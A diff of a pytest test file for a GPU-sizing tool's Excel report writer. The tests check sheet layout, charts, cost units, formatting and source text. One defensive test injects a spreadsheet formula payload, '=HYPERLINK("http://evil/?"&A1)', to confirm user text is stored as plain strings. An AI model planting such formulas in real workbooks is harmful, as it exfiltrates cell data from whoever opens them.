@@ -11,9 +11,11 @@ from types import SimpleNamespace
 
 import pytest
 from openpyxl import load_workbook
+from openpyxl.utils import get_column_letter
 
 import xlsizer
 from xlsizer.results import SCENARIOS
+from xlsizer.summary import confidence_range, summary_rows
 from xlsizer.workbook import report as rp
 from xlsizer.workbook.checklist import fill
 from xlsizer.workbook.markdown import decision_log_markdown
@@ -78,9 +80,15 @@ def same(v):
     return pytest.approx(v, rel=1e-14) if isinstance(v, float) else v
 
 
-def summary_rows(ws) -> dict[str, int]:
-    return {ws.cell(row=r, column=1).value: r for r in range(8, ws.max_row + 1)
-            if isinstance(ws.cell(row=r, column=1).value, str)}
+def label_rows(ws, first: int = 1) -> dict[str, int]:
+    """{text in column A: row}, the first row with values beside it (a section heading such as
+    "Fabric" shares its label with its row)."""
+    out: dict[str, int] = {}
+    for r in range(ws.max_row, first - 1, -1):
+        v = ws.cell(row=r, column=1).value
+        if isinstance(v, str) and (v not in out or ws.cell(row=r, column=2).value is not None):
+            out[v] = r
+    return out
 
 
 def test_examples_are_shipped():
@@ -99,36 +107,50 @@ def test_report_numbers_equal_the_core(reports):
         ws = wb["Summary"]
         assert ws["B3"].value == result.headline
         assert ws["B3"].value.startswith("Plan on ")
-        assert ws["B4"].value == result.confidence["low"] and ws["C4"].value == result.confidence["high"]
-        rows = summary_rows(ws)
+        # the Summary's scenario table is summary.summary_rows, value for value
+        top = _summary_header(ws)
+        r = top + 1
+        for row in summary_rows(result):
+            while ws.cell(row=r, column=1).value != row.label:
+                r += 1
+            assert [ws.cell(row=r, column=c).value for c in (2, 3, 4)] == [same(v) for v in row.values], row.label
+            assert ws.cell(row=r, column=5).value == (row.unit or None)
+        det = wb["Details"]
+        rows = label_rows(det, 4)
         for _title, section in rp.SUMMARY_SECTIONS:
             for label, _unit, get in section:
                 for col, k in zip((2, 3, 4), SCENARIOS, strict=True):
                     want = rp._cell_value(get(result.scenarios[k]))
-                    assert ws.cell(row=rows[label], column=col).value == same(want), (path.name, label, k)
+                    assert det.cell(row=rows[label], column=col).value == same(want), (path.name, label, k)
         costs = [rp.cost_of(result.scenarios[k]) for k in SCENARIOS]
-        if any(costs):
-            for col, c in zip((2, 3, 4), costs, strict=True):
-                assert ws.cell(row=rows["Monthly cost"], column=col).value == same(c["monthly"])
+        for col, c in zip((2, 3, 4), costs, strict=True):
+            assert det.cell(row=rows["Monthly cost"], column=col).value == same(c["monthly"])
         # what would change the answer: each line is a real re-sizing
         r = rows["Change"] + 1
         for w in rp.what_ifs(project.inputs):
-            assert ws.cell(row=r, column=1).value == w.change
-            assert ws.cell(row=r, column=3).value == w.total_gpus
+            assert det.cell(row=r, column=1).value == w.change
+            assert det.cell(row=r, column=3).value == w.total_gpus
             r += 1
         # warnings, assumptions, checklist
         warn = [c.value for c in wb["Warnings"]["B"][3:] if c.value]
         assert warn == [w for _, w in rp.all_warnings(result)]
         steps = result.explain()
         asm = wb["Assumptions"]
-        assert asm.max_row == 5 + len(steps)
-        for i, st in enumerate(steps, start=6):
+        first = rp.ASSUMPTIONS_FIRST
+        assert asm.max_row == first - 1 + len(steps)
+        assert asm["C4"].value == result.confidence["low"] and asm["D4"].value == result.confidence["high"]
+        for i, st in enumerate(steps, start=first):
             assert [asm.cell(row=i, column=c).value for c in range(1, 7)] == [
-                st.scenario, st.name, same(st.value), st.unit or None, st.formula, st.source]
+                st.scenario, st.name, same(st.value), st.unit or None, st.formula, rp.readable_source(st.source)]
         chk = wb["Checklist"]
         items = list(project.checklist or [])
         assert chk["B3"].value == len(items)
         assert chk["B4"].value == sum(1 for it in items if rp.is_open(it.status))
+
+
+def _summary_header(ws) -> int:
+    return next(r for r in range(1, ws.max_row + 1)
+                if [ws.cell(row=r, column=c).value for c in range(2, 6)] == ["Baseline", "Burst", "Resilient", "Unit"])
 
 
 def _ref(obj) -> str:
@@ -140,18 +162,18 @@ def test_charts_point_at_the_right_cells(reports):
     for project, path in reports:
         wb = load_workbook(path)
         inputs = project.inputs
-        # memory breakdown: one series per part (its row B:D), categories = the scenario header
-        ws = wb["Summary"]
-        rows = summary_rows(ws)
+        # memory breakdown (Details): one series per part (its row B:D), categories = the scenario header
+        ws = wb["Details"]
+        rows = label_rows(ws, 4)
         (bar,) = ws._charts
         assert [s.tx.strRef.f.replace("$", "") for s in bar.series] == [
-            f"'Summary'!A{rows[label]}" for label, _ in rp.MEMORY_PARTS]
-        assert [_ref(s.val) for s in bar.series] == [f"'Summary'!B{rows[label]}:D{rows[label]}"
+            f"'Details'!A{rows[label]}" for label, _ in rp.MEMORY_PARTS]
+        assert [_ref(s.val) for s in bar.series] == [f"'Details'!B{rows[label]}:D{rows[label]}"
                                                      for label, _ in rp.MEMORY_PARTS]
-        assert all(_ref(s.cat) == "'Summary'!B7:D7" for s in bar.series)
-        assert [ws.cell(row=7, column=c).value for c in (2, 3, 4)] == ["Baseline", "Burst", "Resilient"]
+        assert all(_ref(s.cat) == "'Details'!B3:D3" for s in bar.series)
+        assert [ws.cell(row=3, column=c).value for c in (2, 3, 4)] == ["Baseline", "Burst", "Resilient"]
 
-        # waterfall: replicas and total GPUs per step
+        # waterfall: replicas and total GPUs per step, and the monthly cost beside them
         from xlsizer.engine.waterfall import waterfall
 
         steps = waterfall(inputs)
@@ -163,25 +185,185 @@ def test_charts_point_at_the_right_cells(reports):
         for i, st in enumerate(steps, start=4):
             assert (wf.cell(row=i, column=1).value, wf.cell(row=i, column=2).value,
                     wf.cell(row=i, column=3).value) == (st.label, st.replicas, st.total_gpus)
+            want = same(st.monthly_cost) if st.monthly_cost is not None else "no price"
+            assert wf.cell(row=i, column=6).value == want
 
-        # sensitivity: two line charts, three replica series each, x values as categories
+        # sensitivity: per input, a GPUs chart and a cost chart; scatter (value x axis), straight lines with
+        # markers, three scenario series and the current input as a lone marker
         sens = wb["Sensitivity"]
-        assert len(sens._charts) == 2
-        for chart, field in zip(sens._charts, ("concurrent_users", "target_tpot_ms"), strict=True):
-            cat = _ref(chart.series[0].cat)  # 'Sensitivity'!A5:A14
-            top, last = (int(x.split("!")[-1][1:]) for x in cat.split(":"))
-            assert cat == f"'Sensitivity'!A{top}:A{last}"
-            assert 8 <= last - top + 1 <= 10
-            assert [_ref(s.val) for s in chart.series] == [f"'Sensitivity'!{c}{top}:{c}{last}" for c in "BCD"]
+        charts = sens._charts
+        assert len(charts) == 4
+        for pair, field in zip((charts[0:2], charts[2:4]), ("concurrent_users", "target_tpot_ms"), strict=True):
+            for chart, cols, cur_col in zip(pair, ("BCD", "EFG"), "HI", strict=True):
+                assert chart.tagname == "scatterChart"
+                xs = {_ref(s.xVal) for s in chart.series}
+                assert len(xs) == 1
+                (x,) = xs
+                top, last = (int(v.split("!")[-1][1:]) for v in x.split(":"))
+                assert x == f"'Sensitivity'!A{top}:A{last}"
+                assert 8 <= last - top + 1 <= 10
+                assert [_ref(s.yVal) for s in chart.series] == [
+                    f"'Sensitivity'!{c}{top}:{c}{last}" for c in cols + cur_col]
+                assert all(s.smooth is False or s.smooth is None for s in chart.series)
+                assert all(s.marker is not None and s.marker.symbol for s in chart.series)
+                assert chart.series[-1].spPr.ln.noFill
             for r in range(top, last + 1):
                 x = sens.cell(row=r, column=1).value
                 try:
                     res = xlsizer.size(inputs.model_dump(exclude_unset=True) | {field: x})
                 except xlsizer.XlsizerError:
-                    assert sens.cell(row=r, column=6).value
+                    assert sens.cell(row=r, column=10).value
                     continue
                 assert [sens.cell(row=r, column=c).value for c in (2, 3, 4)] == [
-                    res.scenarios[k].replicas for k in SCENARIOS]
+                    res.scenarios[k].total_gpus for k in SCENARIOS]
+                assert [sens.cell(row=r, column=c).value for c in (5, 6, 7)] == [
+                    same(res.scenarios[k].extra["cost"]["monthly"]) for k in SCENARIOS]
+                base = inputs.concurrent_users if field == "concurrent_users" else inputs.tpot_ms
+                marked = sens.cell(row=r, column=8).value
+                assert (marked == res.burst.total_gpus) if x == base else marked is None
+
+
+# --- a brief a finance reviewer trusts (issue 14) ----------------------------------------------
+def _numeric_cells(ws):
+    for row in ws.iter_rows():
+        for c in row:
+            if isinstance(c.value, int | float) and not isinstance(c.value, bool):
+                yield c
+
+
+def test_no_number_in_general_format(reports):
+    for _project, path in reports:
+        wb = load_workbook(path)
+        for name in ("Summary", "Details", "Waterfall", "Sensitivity", "Assumptions", "Checklist"):
+            bad = [c.coordinate for c in _numeric_cells(wb[name]) if c.number_format == "General"]
+            assert not bad, (path.name, name, bad[:5])
+
+
+MONEY_WORDS = ("cost", "capex", "spend")
+PERIODS = ("/month", "/year", "one-off", "/M tokens", "/M output tokens", "/user/month")
+
+
+def test_every_cost_row_has_currency_and_period(reports):
+    for project, path in reports:
+        cur = project.inputs.currency
+        wb = load_workbook(path)
+        for name in ("Summary", "Details"):
+            ws = wb[name]
+            n = 0
+            for r in range(1, ws.max_row + 1):
+                label = ws.cell(row=r, column=1).value
+                if not isinstance(label, str) or not any(w in label.lower() for w in MONEY_WORDS):
+                    continue
+                if not any(isinstance(ws.cell(row=r, column=c).value, int | float) for c in (2, 3, 4)):
+                    continue  # a heading or a what-if line, not a money row
+                unit = ws.cell(row=r, column=5).value or ""
+                assert cur in unit and any(p in unit for p in PERIODS), (path.name, name, label, unit)
+                n += 1
+            assert n >= 3, (path.name, name)
+        # the Summary names the pricing model and currency in the section heading too
+        assert any(f"Cost ({project.inputs.pricing_model}, {cur})" == c.value for c in wb["Summary"]["A"])
+
+
+def _align(c) -> str:
+    """Effective horizontal alignment: 'general' puts numbers right and text left."""
+    h = c.alignment.horizontal if c.alignment is not None else None
+    if h in (None, "general"):
+        return "right" if isinstance(c.value, int | float) else "left"
+    return h
+
+
+def test_headers_align_like_the_numbers_below(reports):
+    for _project, path in reports:
+        wb = load_workbook(path)
+        checked = 0
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for h in row:
+                    if h.fill is None or h.fill.fgColor is None or h.fill.fgColor.rgb != "00D9E1F2" or not h.value:
+                        continue  # header cells carry the header fill
+                    below = []
+                    r = h.row + 1
+                    while r <= ws.max_row and ws.cell(row=r, column=h.column).fill.fgColor.rgb != "00D9E1F2":
+                        c = ws.cell(row=r, column=h.column)
+                        if isinstance(c.value, int | float) and not isinstance(c.value, bool):
+                            below.append(c)
+                        r += 1
+                    for c in below:
+                        assert _align(c) == _align(h), (path.name, ws.title, h.coordinate, c.coordinate)
+                    checked += len(below)
+        assert checked > 100, path.name
+
+
+def test_summary_is_one_page_with_the_brief(reports):
+    for project, path in reports:
+        result = xlsizer.size(project.inputs)
+        ws = load_workbook(path)["Summary"]
+        ps = ws.page_setup
+        assert ps.orientation == "landscape" and ps.fitToWidth == 1 and ps.fitToHeight == 1
+        assert ws.sheet_properties.pageSetUpPr.fitToPage
+        text = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+        # confidence range as GPUs and money, top warnings (at most three) and drivers
+        rows = label_rows(ws)
+        gpus, money = confidence_range(result)
+        assert [ws.cell(row=rows["Total GPUs"], column=c).value for c in (2, 3)] == list(gpus)
+        assert ws.cell(row=rows["Total GPUs"], column=5).value == "GPUs"
+        if money is not None:
+            assert [ws.cell(row=rows["Monthly cost"], column=c).value for c in (2, 3)] == [same(m) for m in money]
+        warns = rp.all_warnings(result)
+        shown = [t for t in text if t.startswith("- ") and t[2:] in {w for _, w in warns}]
+        assert len(shown) == min(3, len(warns))
+        assert any(t.startswith("Drivers") for t in text)
+        # every scenario's meaning is a row of the table: Resilient's burst-factor floor and spares
+        top = _summary_header(ws)
+        labels = {ws.cell(row=r, column=1).value: r for r in range(top, ws.max_row + 1)}
+        bf = [ws.cell(row=labels["Burst factor (peak / average)"], column=c).value for c in (2, 3, 4)]
+        assert bf == [1.0, result.inputs.burst_factor, max(result.inputs.burst_factor, 3.0)]
+        spares = [ws.cell(row=labels["Spare replicas"], column=c).value for c in (2, 3, 4)]
+        assert spares == [s.replicas - s.active_replicas for s in result.scenarios.values()]
+        assert spares[2] >= 2
+
+
+def test_wrapped_text_rows_are_tall_enough(reports):
+    """No text is cut off: a wrapped cell whose text is longer than its column gets a taller row."""
+    for _project, path in reports[:4]:
+        wb = load_workbook(path)
+        for ws in wb.worksheets:
+            merged = {(m.min_row, m.min_col): m for m in ws.merged_cells.ranges}
+            for row in ws.iter_rows():
+                for c in row:
+                    if not isinstance(c.value, str) or not (c.alignment and c.alignment.wrap_text):
+                        continue
+                    m = merged.get((c.row, c.column))
+                    cols = range(m.min_col, m.max_col + 1) if m else [c.column]
+                    width = sum(ws.column_dimensions[get_column_letter(i)].width or 8.43 for i in cols)
+                    if len(c.value) > width * 1.3 * 11 / (c.font.sz or 11):
+                        h = ws.row_dimensions[c.row].height
+                        assert h is not None and h >= 2 * 14, (path.name, ws.title, c.coordinate, c.value[:40])
+
+
+def test_assumption_sources_are_readable(reports):
+    for _project, path in reports:
+        ws = load_workbook(path)["Assumptions"]
+        for r in range(rp.ASSUMPTIONS_FIRST, ws.max_row + 1):
+            src = ws.cell(row=r, column=6).value or ""
+            assert src, (path.name, r)
+            for code in (".py", "engine/", "issue ", "course.md", ".yaml", ".csv"):
+                assert code not in src, (path.name, r, src)
+    assert rp.readable_source("course.md §10.3 step 4") == "aisle course, §10.3 step 4"
+    assert rp.readable_source("xlsizer cost model (engine/cost.py; issue 5)") == "xlsizer cost model"
+
+
+def test_user_text_is_never_a_formula(tmp_path):
+    evil = '=HYPERLINK("http://evil/?"&A1)'
+    checklist = fill({"users": ("done", evil, evil, None)})
+    inputs = xlsizer.make_inputs({})
+    project = SimpleNamespace(name=evil, path=evil, inputs=inputs, checklist=checklist)
+    path = rp.write_report(project, xlsizer.size(inputs), tmp_path / "evil.xlsx")
+    wb = load_workbook(path)
+    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert len(hits) >= 4
+    assert all(c.data_type == "s" for c in hits)
 
 
 def test_libreoffice_converts_every_report(reports, tmp_path):
@@ -216,8 +398,8 @@ def test_failed_write_leaves_no_file_and_keeps_the_old_one(tmp_path):
     assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
     rp.write_report(project, result, target)
     assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
-    assert load_workbook(target).sheetnames == ["Summary", "Waterfall", "Sensitivity", "Warnings", "Checklist",
-                                                "Assumptions"]
+    assert load_workbook(target).sheetnames == ["Summary", "Details", "Waterfall", "Sensitivity", "Warnings",
+                                                "Checklist", "Assumptions"]
 
 
 def test_markdown_decision_log_has_inputs_owners_reasons_results_warnings():
